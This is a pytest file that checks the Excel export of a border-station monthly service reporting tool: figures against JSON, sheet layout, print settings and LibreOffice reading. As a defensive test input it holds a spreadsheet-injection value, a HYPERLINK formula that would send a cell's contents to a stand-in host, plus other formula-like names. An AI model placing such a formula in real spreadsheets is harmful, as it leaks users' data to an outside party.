"""`--format xlsx`: the summary as a workbook, written through the command line at the station and
at HQ, read back with openpyxl and held against the JSON document figure by figure."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import Clock, run_cli
from test_report_hq import Brigade, record_november

from outpost.brigade import brigade_summary, export_summary
from outpost.brigade.opening import open_hq
from outpost.i18n import set_language, t
from outpost.logbook import Logbook
from outpost.model.schema import validate
from outpost.reports import render
from outpost.reports.rows import main_figures, value
from outpost.reports.sheet import SHEET_FIGURES

HOSTILE = '=HYPERLINK("http://x.example/?leak="&A1,"看")'
"""A station name a spreadsheet would run as a formula, were it written as one."""
MEDICINE = "@SUM(1+1)"
HEAD = "-2+3"


def record(book: Logbook) -> None:
    """November with a correction of each sort, a patrol of 10.2496 km, and names that look
    like formulas."""
    record_november(book)
    book.add("household", {"household_id": "hh-0009", "head": HEAD, "gacha": "+宝日"})
    book.add(
        "patrol",
        {
            "started_at": "2026-11-05T08:00",
            "ended_at": "2026-11-05T11:15",
            "route": "界桩 106",
            "distance_km": 10.2496,
        },
    )
    book.add(
        "medicine_handout",
        {"recipient": HEAD, "items": [{"medicine": MEDICINE, "quantity": 2.5, "unit": "盒"}]},
        "2026-11-16",
    )


@pytest.fixture
def world(tmp_path: Path, clock: Clock) -> Iterator[dict[str, Path]]:
    """Two stations' November at a real HQ, every data directory closed for the commands."""
    brigade = Brigade(tmp_path / "world")
    first = brigade.station("yingen-couple-post", clock, name="银根戍边夫妻警务室")
    second = brigade.station("wulan-post", clock, name=HOSTILE)
    for book in (first, second):
        record(book)
        brigade.deliver(book)
        book.close()
    brigade.close()
    yield {
        "hq": brigade.folder / "hq",
        "station": brigade.folder / "yingen-couple-post",
        "hostile": brigade.folder / "wulan-post",
    }


def cli_doc(*args: str, data_dir: Path) -> dict[str, Any]:
    result = run_cli(*args, "--month", "2026-11", "--format", "json", data_dir=data_dir)
    assert result.returncode == 0, result.stderr
    doc: dict[str, Any] = json.loads(result.stdout)
    return doc


def cli_book(*args: str, data_dir: Path, out: Path, lang: str = "zh") -> Any:
    result = run_cli(*args, "--month", "2026-11", "--out", str(out), data_dir=data_dir, lang=lang)
    assert result.returncode == 0, result.stderr
    return openpyxl.load_workbook(out)


def table(sheet: Any) -> tuple[list[str], list[list[Any]]]:
    """The header (row 2) and the rows under it, up to the first empty row."""
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    header = [str(h) for h in rows[0] if h is not None]
    body = []
    for row in rows[1:]:
        if all(v is None for v in row):
            break
        body.append(list(row))
    return header, body


def check_figures_sheet(sheet: Any, doc: dict[str, Any]) -> None:
    """Each figure, the month before and the change, as numbers equal to the JSON's."""
    main = main_figures(doc)
    _, rows = table(sheet)
    assert len(rows) == len(SHEET_FIGURES)
    for row, (_key, section, name) in zip(rows, SHEET_FIGURES, strict=True):
        now, before = value(main, section, name), value(main["previous"], section, name)
        assert row[1:4] == [now, before, pytest.approx(now - before, abs=1e-9)], (section, name)
        assert all(isinstance(v, int | float) for v in row[1:4])
    km = next(i for i, f in enumerate(SHEET_FIGURES) if f[2] == "km") + 3
    assert sheet.cell(km, 2).number_format == "0.0"  # shown to 0.1, kept exact


def test_station_workbook_holds_every_figure_of_the_json(
    world: dict[str, Path], tmp_path: Path
) -> None:
    """`outpost report --out X.xlsx` writes a workbook whose figures, medicine, stock and
    coverage equal the JSON document's, as numbers, under a frozen header, set up for A4."""
    doc = cli_doc("report", data_dir=world["station"])
    wb = cli_book("report", data_dir=world["station"], out=tmp_path / "nov.xlsx")
    assert wb.sheetnames[:4] == ["本月数据", "发放药品", "帮扶代办", "月末药品库存"]
    assert wb.sheetnames[-1] == "数据依据"
    assert "分户送水" in wb.sheetnames  # the sections of the document, a sheet each
    figures = wb["本月数据"]
    check_figures_sheet(figures, doc)
    assert main_figures(doc)["patrols"]["km"] == 10.2496
    assert figures["A1"].value == "月度服务汇总 · 银根戍边夫妻警务室 · 2026年11月"
    notes = [c.value for c in figures["A"] if c.value]
    assert "制表人：＿＿＿＿＿＿　审核人：＿＿＿＿＿＿　负责人：＿＿＿＿＿＿" in notes
    assert any(str(n).startswith("制表日期：") for n in notes)
    _, items = table(wb["发放药品"])
    medicine = main_figures(doc)["medicine"]
    assert items == [
        ["银根戍边夫妻警务室", k, q, medicine["units"][k]] for k, q in medicine["items"].items()
    ]
    assert items[0][1] == MEDICINE and wb["发放药品"]["B3"].data_type == "s"
    _, stock = table(wb["月末药品库存"])
    assert [(r[1], r[2], r[3], r[4]) for r in stock] == [
        (s["medicine"], s["balance"], s["unit"], "短缺" if s["balance"] < 0 else None)
        for s in medicine["stock"]
    ]
    _, coverage = table(wb["数据依据"])
    assert coverage[0][:4] == ["银根戍边夫妻警务室", "完整", 0, None]
    for sheet in wb:
        assert sheet.freeze_panes == "A3"
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.print_title_rows == "$2:$2"
        assert "银根戍边夫妻警务室" in sheet.oddHeader.center.text
        assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"


def test_brigade_workbook_has_every_station_row_and_keeps_formula_names_as_text(
    world: dict[str, Path], tmp_path: Path
) -> None:
    """`outpost hq report --format xlsx` gives one row per station and the total with every
    figure of the JSON, the month before and the coverage columns; a station name, medicine
    or household head starting with = + - @ is a string cell holding exactly that text."""
    doc = cli_doc("hq", "report", data_dir=world["hq"])
    out = tmp_path / "brigade.xlsx"
    result = run_cli(
        "hq", "report", "--month", "2026-11", "--format", "xlsx", "--out", str(out),
        data_dir=world["hq"], lang="en",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:2] == ["Figures", "By station"]
    check_figures_sheet(wb["Figures"], doc)
    assert (
        wb["Figures"]["A1"].value == "Monthly service summary · 阿拉善边境管理大队 · November 2026"
    )
    sheet = wb["By station"]
    header, rows = table(sheet)
    assert [r[0] for r in rows] == [*(s["station"] for s in doc["stations"]), None]
    assert [r[1] for r in rows] == [*(s["name"] for s in doc["stations"]), "Brigade total"]
    for row, figures in zip(rows, [*doc["stations"], doc["total"]], strict=True):
        got = dict(zip(header, row, strict=False))
        for key, section, name in SHEET_FIGURES:
            assert got[t(key)] == value(figures, section, name), (key, figures["name"])
        assert got["Patrols (2026-10)"] == figures["previous"]["patrols"]["count"]
        cov = figures["coverage"]
        assert (got["coverage"], got["entries missing"]) == (cov["status"], cov["missing_count"])
    hostile = sheet.cell(3 + [s["name"] for s in doc["stations"]].index(HOSTILE), 2)
    assert (hostile.value, hostile.data_type) == (HOSTILE, "s")
    texts = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in texts if c.data_type == "f"]
    assert {c.value for c in texts} >= {HOSTILE, MEDICINE}
    figure_columns = [header.index(t(key)) for key, _, _ in SHEET_FIGURES]
    assert all(isinstance(row[i], int | float) for row in rows for i in figure_columns)
    km = header.index("Patrol km") + 1
    assert sheet.cell(3, km).number_format == "0.0"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_title_cols == "$A:$B"  # too wide to shrink: each page keeps the names
    assert wb["Figures"].sheet_properties.pageSetUpPr.fitToPage  # narrow: fitted to the width
    assert wb["Figures"].oddFooter.center.text == "Page &P of &N"


def test_workbook_goes_to_a_pipe_but_never_to_a_terminal(world: dict[str, Path]) -> None:
    """A real `outpost report --format xlsx` writes the workbook to a pipe; to a terminal it is
    refused with one line and exit 2, writing nothing."""
    argv = [sys.executable, "-m", "outpost", "report", "--month", "2026-11", "--format", "xlsx"]
    argv += ["--data-dir", str(world["station"])]
    env = dict(os.environ, OUTPOST_LANG="en")
    piped = subprocess.run(argv, capture_output=True, env=env, timeout=120)
    assert piped.returncode == 0, piped.stderr
    wb = openpyxl.load_workbook(io.BytesIO(piped.stdout))
    assert wb.sheetnames[0] == "Figures"
    controller, terminal = os.openpty()
    try:
        refused = subprocess.run(
            argv, stdout=terminal, stderr=subprocess.PIPE, env=env, timeout=120
        )
        os.close(terminal)
        shown = b""
        while True:
            try:
                chunk = os.read(controller, 4096)
            except OSError:  # the terminal's other end is closed: all read
                break
            if not chunk:
                break
            shown += chunk
    finally:
        os.close(controller)
    assert refused.returncode == 2
    assert refused.stderr.decode().strip() == (
        "outpost: an .xlsx workbook cannot be shown on a terminal:"
        " write it with --out FILE.xlsx or redirect it to a file"
    )
    assert shown == b""


def sections(doc: dict[str, Any]) -> dict[str, Any]:
    """The sections docs/summary-definitions.md adds (year to date, the same month last year,
    water by household, open issues, stock by station, expiring medicine), as their schema
    shapes them, laid into a real document's total."""
    main = main_figures(doc)
    first = doc["stations"][0]["station"]
    figures = {k: main[k] for k in ("patrols", "water", "medicine", "visits", "assistance")}
    figures["households_served"] = main["households_served"]
    return {
        "year_to_date": {"from": "2026-01", "through": "2026-11", **figures},
        "same_month_last_year": {"month": "2025-11", "recorded": True, **figures},
        "water_by_household": [
            {
                "station": first,
                "household": "hh-0007",
                "head": HEAD,
                "gacha": "查干嘎查",
                "deliveries": 2,
                "litres": 1500,
                "dates": ["2026-11-03", "2026-11-10"],
            }
        ],
        "open_issues": [
            {
                "station": first,
                "household": "hh-0007",
                "head": "巴特尔",
                "date": "2026-11-12",
                "purpose": "mediation",
                "issues_raised": 3,
                "issues_resolved": 1,
                "unresolved": 2,
                "follow_up": "=下周复访",
            }
        ],
        "stock_by_station": [
            {"station": first, "medicine": "碘伏", "unit": "瓶", "balance": -1, "short": True},
            {"station": first, "medicine": "布洛芬", "unit": "片", "balance": 64, "short": False},
        ],
        "expiring_medicine": [
            {
                "station": first,
                "medicine": "布洛芬",
                "unit": "片",
                "quantity": 100,
                "expires": "2027-01-15",
                "days": 46,
            }
        ],
    }


def test_new_sections_get_their_sheets_and_columns(world: dict[str, Path]) -> None:
    """A document with the new sections gets the year to date and the same month last year
    beside the month before, and a sheet each for water by household, open issues and expiring
    medicine; stock comes per station from its own section, short lines marked."""
    doc = cli_doc("hq", "report", data_dir=world["hq"])
    doc["total"].update(sections(doc))
    if "water_by_household" in json.loads(schema_text())["definitions"]:
        validate("summary", doc)  # once the sections' schema is in, the document is checked
    set_language("zh")
    wb = openpyxl.load_workbook(io.BytesIO(render(doc, "xlsx")))
    assert wb.sheetnames == [
        "本月数据", "各警务站", "发放药品", "帮扶代办", "月末药品库存",
        "分户送水", "未解决问题", "近效期药品", "数据依据",
    ]  # fmt: skip
    header, rows = table(wb["本月数据"])
    assert header[4:] == ["同比（2025-11）", "本年累计（2026-01 至 2026-11）"]
    main = main_figures(doc)
    for row, (_key, section, name) in zip(rows, SHEET_FIGURES, strict=True):
        assert row[4:6] == [value(main, section, name)] * 2
    _, water = table(wb["分户送水"])
    assert water == [[HOSTILE, "hh-0007", HEAD, "查干嘎查", 2, 1500, "2026-11-03, 2026-11-10"]]
    _, issues = table(wb["未解决问题"])
    assert issues[0][3] == datetime(2026, 11, 12)
    assert issues[0][4:] == ["矛盾调解", 3, 1, 2, "=下周复访"]
    assert wb["未解决问题"]["I3"].data_type == "s"
    _, stock = table(wb["月末药品库存"])
    assert [r[1:5] for r in stock] == [["碘伏", -1, "瓶", "短缺"], ["布洛芬", 64, "片", None]]
    _, expiring = table(wb["近效期药品"])
    assert expiring == [[HOSTILE, "布洛芬", 100, "片", datetime(2027, 1, 15), 46]]


def schema_text() -> str:
    return (Path(__file__).parents[1] / "schemas" / "summary.schema.json").read_text()


def test_hq_screen_export_writes_the_workbook_too(world: dict[str, Path], tmp_path: Path) -> None:
    """The HQ summary screen's export (`export_summary`) writes the .xlsx beside the others."""
    with open_hq(world["hq"]) as archive:
        written = export_summary(brigade_summary(archive, "2026-11"), tmp_path / "out")
    assert [p.suffix for p in written] == [".txt", ".md", ".csv", ".html", ".json", ".xlsx"]
    wb = openpyxl.load_workbook(written[-1])
    assert "By station" in wb.sheetnames


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_workbook(world: dict[str, Path], tmp_path: Path) -> None:
    """LibreOffice Calc opens the workbook and reads the figures as the JSON has them (its
    headless start takes a few seconds: the one slow test here, and the only real check that
    an office suite, not just our own reader, takes the file)."""
    doc = cli_doc("hq", "report", data_dir=world["hq"])
    book = tmp_path / "brigade.xlsx"
    cli_book("hq", "report", data_dir=world["hq"], out=book, lang="en")
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(book)],
        capture_output=True, timeout=180, check=True,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO((tmp_path / "brigade.csv").read_text("utf-8"))))
    assert rows[0][0] == "Monthly service summary · 阿拉善边境管理大队 · November 2026"
    got = {r[0]: r[1:4] for r in rows[2:] if r and r[0]}
    total = doc["total"]
    assert got["Patrols"][0] == str(total["patrols"]["count"])
    assert got["Water litres"][:2] == [str(total["water"]["litres"]), "0"]
    assert got["Patrol km"][0] == "20.5"  # 20.4992 exact, shown to 0.1
